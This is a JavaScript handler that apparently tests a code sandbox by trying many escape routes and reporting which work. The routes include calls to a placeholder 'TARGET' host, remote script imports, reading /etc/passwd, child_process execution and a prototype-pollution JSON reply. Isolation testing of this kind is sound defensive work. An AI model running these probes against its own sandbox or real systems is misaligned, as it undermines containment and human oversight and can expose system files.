// Tries every way out that its author could think of, and tells which ones led anywhere.
exports.handler = async (event) => {
  const got = [];
  const tries = {
    fetch: () => fetch("TARGET/fetch"),
    xhr: () => new XMLHttpRequest().open("GET", "TARGET/xhr"),
    socket: () => new WebSocket("TARGET/socket"),
    events: () => new EventSource("TARGET/events"),
    beacon: () => navigator.sendBeacon("TARGET/beacon"),
    scripts: () => importScripts("TARGET/script.js"),
    imports: () => import("TARGET/module.js"),
    importsData: () => import("data:text/javascript,export default 1"),
    worker: () => new Worker("TARGET/worker.js"),
    channel: () => new BroadcastChannel("x").postMessage(1),
    message: () => postMessage({ type: "done", id: 1, summary: "{}", rows: "" }),
    port: () => new MessageChannel().port1.postMessage(1),
    storage: () => localStorage.setItem("a", "b"),
    session: () => sessionStorage.setItem("a", "b"),
    database: () => indexedDB.open("x"),
    caches: () => caches.open("x"),
    cookie: () => (document.cookie = "a=b"),
    page: () => document.body.append("x"),
    title: () => (parent.document.title = "x"),
    frame: () => top.location.assign("TARGET/navigate"),
    location: () => location.assign("TARGET/navigate"),
    open: () => open("TARGET/open"),
    font: () => new FontFace("x", "url(TARGET/font)").load(),
    peer: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:TARGET" }] }),
    wasm: () => new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }),
    shared: () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1),
    http: () => require("http").get("TARGET/http"),
    https: () => require("node:https").get("TARGET/https"),
    net: () => require("net").connect(80, "127.0.0.1"),
    dns: () => require("dns").lookup("TARGET", () => {}),
    files: () => require("fs").readFileSync("/etc/passwd"),
    spawn: () => require("child_process").execSync("true"),
    threads: () => new (require("worker_threads").Worker)("1", { eval: true }),
    vm: () => require("vm").runInThisContext("1"),
    sdk: () => require("@aws-sdk/client-s3"),
    binding: () => process.binding("fs"),
    dlopen: () => process.dlopen({}, "x"),
    main: () => process.mainModule.require("fs"),
    std: () => std.open("/etc/passwd", "r"),
    os: () => os.exec(["true"]),
    host: () => streamgaugeHandlers.create(1),
    engine: () => globalThis.module.constructor._load("fs"),
  };
  for (const [name, act] of Object.entries(tries)) {
    try {
      const result = await act();
      got.push(`${name}: ${typeof result}`);
    } catch {}
  }
  // Names of a browser or of Node that a function made from text could see.
  const all = Function("return this")();
  const names = ["window", "self", "document", "navigator", "postMessage", "onmessage", "WebAssembly", "Worker",
    "indexedDB", "caches", "Atomics", "SharedArrayBuffer", "XMLHttpRequest", "importScripts", "sg_answer"];
  for (const name of names) if (all[name] !== undefined) got.push(`name ${name}`);
  // What comes out of the box is text: nothing that is spelled like a prototype or a method gets further.
  Object.prototype.toJSON = function () { return this; };
  Object.defineProperty(Object.prototype, "batchItemFailures", { get: () => [{ itemIdentifier: "x" }], configurable: true });
  delete Object.prototype.toJSON;
  delete Object.prototype.batchItemFailures;
  console.log(got.length === 0 ? "no way out" : got.join(", "));
  const reply = JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "batchItemFailures": []}');
  return reply;
};
